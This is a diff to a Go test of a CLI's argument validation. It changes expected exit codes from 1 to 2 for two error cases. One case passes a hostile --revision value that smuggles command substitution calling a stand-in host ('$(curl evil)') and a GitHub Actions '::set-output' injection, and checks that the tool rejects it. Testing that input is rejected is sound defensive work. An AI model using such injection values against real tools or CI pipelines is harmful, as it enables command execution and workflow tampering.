@@ -85,8 +85,8 @@ func TestTagValidatedErrors(t *testing.T) {
 		{"help", []string{"--help"}, 0, "-revision"},
 		{"nothing named", []string{"--repository", repo}, 2, "--revision, --digest or --sha"},
 		{"unknown artifact", []string{"--repository", repo, "--digest", "sha256:" + strings.Repeat("0", 64)}, 1, "looked up digest sha256:000"},
-		{"hostile revision", []string{"--repository", repo, "--revision", "0.0.1-rc.1@sha256:$(curl evil)\n::set-output"}, 1, "revision"},
-		{"non-hex sha", []string{"--repository", repo, "--sha", "zzzzzzz"}, 1, "hex"},
+		{"hostile revision", []string{"--repository", repo, "--revision", "0.0.1-rc.1@sha256:$(curl evil)\n::set-output"}, 2, "revision"},
+		{"non-hex sha", []string{"--repository", repo, "--sha", "zzzzzzz"}, 2, "hex"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
